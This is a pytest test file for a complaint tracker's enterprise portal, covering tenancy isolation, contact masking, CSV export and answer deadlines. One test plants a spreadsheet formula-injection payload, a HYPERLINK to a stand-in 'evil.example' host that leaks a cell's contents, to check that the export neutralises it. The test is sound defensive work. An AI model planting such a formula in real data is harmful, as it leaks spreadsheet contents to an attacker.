"""The enterprise portal: tenancy on every route, masks, the CSV, answers (late ones too), the record."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func
from sqlalchemy import select

from tests.factories import gen_case
from tests.factories import gen_cast
from tests.factories import gen_enterprise
from tests.factories import gen_user
from tracker import audit
from tracker import create_app
from tracker.extensions import db
from tracker.models import CaseAnswer
from tracker.models import Deadline
from tracker.models import Evidence
from tracker.models import OutboxMessage
from tracker.models import Rating
from tracker.models import Role
from tracker.models import SecurityEvent
from tracker.models import Visibility
from tracker.models import utcnow
from tracker.services import answers
from tracker.services import enterprise_record
from tracker.services.answers import AnswerData
from tracker.spreadsheets import neutralise_cell
from tracker.working_days import WorkingCalendar
from tracker.working_days import local_date

PNG_1PX = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde\x00\x00\x00"
    b"\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef\x00\x00\x00\x00IEND\xaeB`\x82"
)



def recently():
    """A filing time recent enough that the enterprise's 10 working days have not run out."""
    return utcnow() - timedelta(days=3)


def edit_case(case, **fields):
    """Change a case's fields as a filing would have set them; the change is audited like any other."""
    for name, value in fields.items():
        setattr(case, name, value)
    audit.record(db.session, case, actor=None, action="test_edit", visibility=Visibility.STAFF)
    db.session.flush()


def contact_case(make_case, *, consent: bool, state: str = "enterprise_response"):
    """A case whose consumer typed a name, phone and e-mail, with or without consent to forward them."""
    case = make_case(state=state)
    edit_case(case, contact_name="张三丰", contact_phone="13812341234", contact_email="zhang.sanfeng@example.cn",
              consent_forward_contact=consent)
    return case


def security_events(kind: str = "access_denied") -> int:
    return db.session.scalar(select(func.count(SecurityEvent.id)).where(SecurityEvent.kind == kind))


# --- tenancy: one parametrised test over the URL map --------------------------------------------------

#: Endpoints outside the enterprise package that an enterprise user can reach with a case or a file in the URL.
CASE_ENDPOINT_PREFIXES = ("enterprise.", "cases.", "evidence.download")


def _tenant_rules(app):
    return sorted(
        (rule for rule in app.url_map.iter_rules() if rule.endpoint.startswith(CASE_ENDPOINT_PREFIXES)),
        key=lambda rule: (rule.endpoint, rule.rule),
    )


def pytest_generate_tests(metafunc):
    """One test per enterprise-reachable rule of the URL map (collected from a throwaway app)."""
    if "tenant_rule" in metafunc.fixturenames:
        app = create_app("testing", SQLALCHEMY_DATABASE_URI="sqlite://")
        rules = [(rule.endpoint, rule.rule, sorted(rule.methods - {"HEAD", "OPTIONS"})) for rule in _tenant_rules(app)]
        metafunc.parametrize("tenant_rule", rules, ids=[f"{endpoint}:{rule}" for endpoint, rule, _m in rules])


def test_every_enterprise_route_hides_another_enterprises_case(client, login_as, app, tenant_rule):
    """Another enterprise's case, file, colleague or export: a 404 that is logged, or not a trace of it."""
    endpoint, rule, methods = tenant_rule
    ours = gen_cast()
    theirs = gen_cast()
    their_case = gen_case(theirs, state="enterprise_response")
    edit_case(their_case, consent_forward_contact=True, contact_name="外人甲")
    their_file = Evidence(case_id=their_case.id, stored_name="ab/" + "a" * 64 + ".png", sha256="a" * 64, size=10,
                          content_type="image/png", original_name="their.png")
    db.session.add(their_file)
    db.session.flush()
    gen_case(ours, state="enterprise_response")
    login_as(ours.enterprise_user)
    values = {"number": their_case.number, "evidence_id": their_file.id, "user_id": theirs.enterprise_user.id,
              "trigger": "propose_settlement"}
    url = re.sub(r"<(?:[^:>]+:)?(\w+)>", lambda match: str(values.get(match.group(1), match.group(0))), rule)
    assert "<" not in url, f"a URL argument this test does not know: {rule}"
    method = "GET" if "GET" in methods else methods[0]
    before = security_events()
    response = client.open(url, method=method, data={"version": their_case.version})
    body = response.get_data(as_text=True)
    if url == rule:
        # A page of the enterprise's own (inbox, record, export, colleagues): the other's case is absent.
        assert response.status_code in (200, 302, 422), (url, response.status_code)
        assert their_case.number not in body and "外人甲" not in body
    else:
        assert response.status_code == 404, (url, response.status_code)
        assert security_events() == before + 1
        assert "外人甲" not in body


def test_tenant_rules_cover_the_enterprise_portal(app):
    """The parametrised test above really walks the enterprise's pages, the case page and downloads."""
    endpoints = {rule.endpoint for rule in _tenant_rules(app)}
    assert {"enterprise.inbox", "enterprise.record", "enterprise.export_csv", "enterprise.answer",
            "enterprise.colleagues", "enterprise.remove_colleague", "cases.show", "evidence.download"} <= endpoints


def test_other_roles_get_a_logged_404_from_the_enterprise_portal(client, login_as):
    login_as("consumer")
    before = security_events()
    assert client.get("/enterprise/").status_code == 404
    assert security_events() == before + 1


# --- the mask -----------------------------------------------------------------------------------------

def test_the_mask_holds_on_the_page_in_the_csv_and_in_the_email_without_consent(client, login_as, make_case, cast,
                                                                               app):
    case = contact_case(make_case, consent=False)
    login_as(cast.enterprise_user)
    page = client.get(f"/cases/{case.number}").get_data(as_text=True)
    inbox = client.get("/enterprise/").get_data(as_text=True)
    exported = client.get("/enterprise/export.csv").get_data(as_text=True)
    answers.answer_case(db.session, case, cast.enterprise_user, AnswerData("refund", "退款"),
                        now=utcnow())
    mails = db.session.scalars(select(OutboxMessage).where(OutboxMessage.case_id == case.id)
                               .where(OutboxMessage.recipient == cast.enterprise_user.email)).all()
    for text in (page, exported, *(mail.body for mail in mails)):
        assert "张三丰" not in text and "13812341234" not in text and "zhang.sanfeng@" not in text
    receipts = [mail.body for mail in mails if "138****1234" in mail.body]
    for text in (page, exported, *receipts):
        assert "138****1234" in text and "张**" in text
    assert receipts, "the answer's receipt to the enterprise shows the masked contact"
    assert "张三丰" not in inbox and "张**" in inbox


def test_full_contact_details_show_with_consent(client, login_as, make_case, cast, app):
    case = contact_case(make_case, consent=True)
    login_as(cast.enterprise_user)
    page = client.get(f"/cases/{case.number}").get_data(as_text=True)
    exported = client.get("/enterprise/export.csv").get_data(as_text=True)
    answers.answer_case(db.session, case, cast.enterprise_user, AnswerData("repair", "维修"),
                        now=utcnow())
    receipt = next(mail for mail in db.session.scalars(
        select(OutboxMessage).where(OutboxMessage.case_id == case.id)
        .where(OutboxMessage.recipient == cast.enterprise_user.email)) if "13812341234" in mail.body)
    for text in (page, exported, receipt.body):
        assert "张三丰" in text and "13812341234" in text and "zhang.sanfeng@example.cn" in text


# --- the CSV ------------------------------------------------------------------------------------------

def test_the_csv_is_utf8_with_bom_and_neutralises_formulas(client, login_as, make_case, cast):
    case = make_case(state="enterprise_response")
    edit_case(case, contact_name='=HYPERLINK("http://evil.example/?x="&A1,"点我")', consent_forward_contact=True,
              narrative="@SUM(1+1)")
    login_as(cast.enterprise_user)
    response = client.get("/enterprise/export.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][0] == "案件编号"
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点我")' in cells
    assert "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_each_formula_trigger_is_neutralised(value):
    assert neutralise_cell(value) == "'" + value


# --- answers ------------------------------------------------------------------------------------------

def test_a_late_answer_is_accepted_and_recorded_as_late(client, login_as, make_case, cast):
    case = make_case(state="enterprise_response")
    deadline = next(d for d in case.deadlines if d.clock == "enterprise_response")
    deadline.due_on = local_date(utcnow()) - timedelta(days=3)
    db.session.flush()
    login_as(cast.enterprise_user)
    response = client.post(f"/enterprise/cases/{case.number}/answer", data={
        "version": case.version, "outcome": "explanation", "explanation": "产品符合标准，说明如下。",
    })
    assert response.status_code == 302
    answer = db.session.scalars(select(CaseAnswer).where(CaseAnswer.case_id == case.id)).one()
    assert answer.late is True and answer.due_on == deadline.due_on
    assert case.state == "mediation"
    page = client.get(f"/cases/{case.number}").get_data(as_text=True)
    assert "逾期答复" in page or "answered late" in page


def test_an_answer_on_time_is_not_late_and_a_proposal_waits_for_the_consumer(client, login_as, make_case, cast):
    case = make_case(state="enterprise_response", filed_at=recently())
    login_as(cast.enterprise_user)
    due = local_date(utcnow()) + timedelta(days=10)
    response = client.post(f"/enterprise/cases/{case.number}/answer", data={
        "version": case.version, "outcome": "refund", "explanation": "同意退款。",
        "settlement_terms": "全额退款并承担运费", "settlement_amount": "299.00",
        "settlement_due_on": due.isoformat(), "public_response": "已与消费者协商退款。",
        "files": [(io.BytesIO(PNG_1PX), "发票.png")],
    }, content_type="multipart/form-data")
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    answer = db.session.scalars(select(CaseAnswer).where(CaseAnswer.case_id == case.id)).one()
    assert (answer.late, answer.settlement_amount, answer.settlement_due_on) == (False, Decimal("299.00"), due)
    assert [file.original_name for file in answer.files] == ["发票.png"]
    assert case.state == "settlement_proposed" and case.outcome == "refund"


def test_a_disputed_answer_with_a_proposal_is_refused_and_nothing_is_written(client, login_as, make_case, cast):
    case = make_case(state="enterprise_response")
    login_as(cast.enterprise_user)
    response = client.post(f"/enterprise/cases/{case.number}/answer", data={
        "version": case.version, "outcome": "disputed", "explanation": "不认可。",
        "settlement_terms": "补偿100元", "settlement_due_on": (local_date(utcnow()) + timedelta(days=3)).isoformat(),
    })
    assert response.status_code == 422
    assert db.session.scalar(select(func.count(CaseAnswer.id)).where(CaseAnswer.case_id == case.id)) == 0
    assert case.state == "enterprise_response"


def test_a_disputed_answer_sends_the_case_to_mediation(client, login_as, make_case, cast):
    case = make_case(state="enterprise_response")
    login_as(cast.enterprise_user)
    response = client.post(f"/enterprise/cases/{case.number}/answer", data={
        "version": case.version, "outcome": "disputed", "explanation": "产品无质量问题。",
    })
    assert response.status_code == 302
    assert case.state == "mediation"


def test_the_consumer_accepts_the_proposal(client, login_as, make_case, cast):
    case = make_case(state="enterprise_response")
    answers.answer_case(
        db.session, case, cast.enterprise_user,
        AnswerData("replacement", "换新", settlement_terms="更换新品", settlement_due_on=local_date(utcnow())),
        now=utcnow(),
    )
    db.session.flush()
    login_as(cast.applicant)
    page = client.get(f"/cases/{case.number}").get_data(as_text=True)
    assert "更换新品" in page
    response = client.post(f"/cases/{case.number}/actions/accept_settlement", data={"version": case.version})
    assert response.status_code == 302
    assert case.state == "settled"


def test_an_answer_to_a_case_not_waiting_is_refused(client, login_as, make_case, cast):
    case = make_case(state="settled")
    login_as(cast.enterprise_user)
    response = client.post(f"/enterprise/cases/{case.number}/answer", data={
        "version": case.version, "outcome": "explanation", "explanation": "补充说明",
    })
    assert response.status_code == 409


# --- inbox and record ---------------------------------------------------------------------------------

def test_the_inbox_lists_waiting_cases_first_with_overdue_ones_marked(client, login_as, make_case, cast):
    waiting = make_case(state="enterprise_response", filed_at=recently())
    overdue = make_case(state="enterprise_response")
    other = make_case(state="settled")
    clock = next(d for d in overdue.deadlines if d.clock == "enterprise_response")
    clock.due_on = local_date(utcnow()) - timedelta(days=1)
    db.session.flush()
    login_as(cast.enterprise_user)
    page = client.get("/enterprise/").get_data(as_text=True)
    waiting_part, other_part = page.split('id="others-heading"')
    assert waiting_part.index(overdue.number) < waiting_part.index(waiting.number)
    assert other.number in other_part and other.number not in waiting_part
    assert f'data-case="{overdue.number}"\n    data-overdue="true"' in page


def test_the_record_counts_on_time_answers_resolution_and_rating(app, db_session, make_case, cast):
    on_time = make_case(state="enterprise_response", filed_at=recently())
    late = make_case(state="enterprise_response", filed_at=recently())
    make_case(state="enterprise_response", filed_at=recently())
    next(d for d in late.deadlines if d.clock == "enterprise_response").due_on = local_date(utcnow()) - timedelta(1)
    db.session.flush()
    for case, outcome in ((on_time, "refund"), (late, "explanation")):
        answers.answer_case(db.session, case, cast.enterprise_user,
                            AnswerData(outcome, "答复", settlement_terms="退款" if outcome == "refund" else None,
                                       settlement_due_on=local_date(utcnow()) if outcome == "refund" else None),
                            now=utcnow())
    db.session.flush()
    record = enterprise_record.record_of(db.session, cast.enterprise_user, now=utcnow())
    assert record.cases_received == 3
    assert (record.answered_on_time, record.answers_due) == (1, 2)
    assert record.resolved == 0 and record.average_rating is None
    other = gen_user(Role.ENTERPRISE, enterprise=gen_enterprise())
    assert enterprise_record.record_of(db.session, other, now=utcnow()).cases_received == 0


def test_the_record_page_shows_the_figures(client, login_as, make_case, cast):
    make_case(state="enterprise_response")
    login_as(cast.enterprise_user)
    page = client.get("/enterprise/record").get_data(as_text=True)
    assert 'data-figure="received">1<' in page


def test_deadline_model_is_untouched_by_the_inbox(client, login_as, make_case, cast):
    """Reading the inbox changes no clock."""
    case = make_case(state="enterprise_response")
    before = [(d.id, d.due_on, d.status) for d in db.session.scalars(select(Deadline).where(Deadline.case_id == case.id))]
    login_as(cast.enterprise_user)
    client.get("/enterprise/")
    after = [(d.id, d.due_on, d.status) for d in db.session.scalars(select(Deadline).where(Deadline.case_id == case.id))]
    assert before == after


def test_the_record_counts_a_settled_closed_case_its_working_days_and_its_rating(app, db_session, make_case, cast):
    closed = make_case(state="closed")
    db.session.add(Rating(case_id=closed.id, score=4))
    make_case(state="mediation_ended")
    db.session.flush()
    record = enterprise_record.record_of(db.session, cast.enterprise_user, now=utcnow())
    assert closed.outcome in answers.ANSWER_OUTCOMES
    assert (record.cases_received, record.resolved, record.closed) == (2, 1, 1)
    accepted, finished = local_date(closed.accepted_at), local_date(closed.closed_at)
    assert record.median_working_days_to_close == WorkingCalendar().working_days_between(accepted, finished)
    assert record.average_rating == 4.0 and record.ratings == 1
    assert record.share_resolved == 0.5


def test_a_later_answer_during_mediation_may_propose_a_settlement(client, login_as, make_case, cast):
    case = make_case(state="mediation")
    login_as(cast.enterprise_user)
    response = client.post(f"/enterprise/cases/{case.number}/answer", data={
        "version": case.version, "outcome": "compensation", "explanation": "愿意补偿。",
        "settlement_terms": "补偿 100 元", "settlement_due_on": local_date(utcnow()).isoformat(),
    })
    assert response.status_code == 302
    answer = db.session.scalars(select(CaseAnswer).where(CaseAnswer.case_id == case.id)).one()
    assert case.state == "settlement_proposed" and answer.late is False and answer.due_on is None


def test_a_further_answer_during_mediation_is_recorded_and_the_parties_are_told(app, db_session, make_case, cast):
    case = make_case(state="mediation")
    answers.answer_case(db.session, case, cast.enterprise_user, AnswerData("explanation", "补充说明检测结果。"),
                        now=utcnow())
    db.session.flush()
    assert case.state == "mediation"
    told = set(db.session.scalars(select(OutboxMessage.recipient).where(OutboxMessage.case_id == case.id)))
    assert {cast.applicant.email, cast.officer.email, cast.enterprise_user.email} <= told
